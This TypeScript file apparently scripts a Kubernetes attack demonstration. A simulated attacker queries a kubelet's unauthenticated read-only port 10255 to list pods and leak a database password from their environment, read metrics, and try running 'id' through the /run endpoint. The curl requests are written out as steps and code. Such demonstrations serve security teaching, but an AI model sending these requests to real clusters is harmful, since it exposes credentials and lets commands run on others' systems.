import type { Pod } from '../../api/objects';
import { addresses } from '../addresses';
import { curl } from './curl';
import { playOf } from './play';
import { runPodWithPassword } from './pod-with-password';

export const readOnlyPort = playOf({
  steps: [
    'admin: kubectl run db --env=PASSWORD=…',
    'attacker: curl http://node-1:10255/pods',
    'attacker: curl http://node-1:10255/metrics/resource',
    'attacker: curl -XPOST "http://node-1:10255/run/default/db/db?cmd=id"',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const { signal } = stage;
    const ask = (path: string, method = 'GET') =>
      curl(cluster.attackerHost, `http://${addresses.node1}:10255${path}`, { method, signal });

    const pods = await ask('/pods');
    const look = 'curl http://node-1:10255/pods';
    if (pods.body.includes(password)) {
      const { items } = JSON.parse(pods.body) as { items: Pod[] };
      const db = items.find(({ metadata }) => metadata.name === 'db');
      const saw = `${items.length} pods; db: ${JSON.stringify(db?.spec.containers[0]?.env)}`;
      await stage.gained(
        'attacker',
        look,
        saw,
        'the pods of the node, with the passwords in their environment',
      );
    } else await stage.refused('attacker', look, pods.words);

    const metrics = await ask('/metrics/resource');
    const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
    const measure = 'curl http://node-1:10255/metrics/resource';
    if (used !== undefined) await stage.gained('attacker', measure, used, 'what every pod uses');
    else await stage.refused('attacker', measure, metrics.words);

    const run = await ask('/run/default/db/db?cmd=id', 'POST');
    const command = 'curl -XPOST "http://node-1:10255/run/default/db/db?cmd=id"';
    if (run.ok) await stage.gained('attacker', command, run.body.trim(), 'a command run in default/db');
    else await stage.refused('attacker', command, run.words);
  },
});
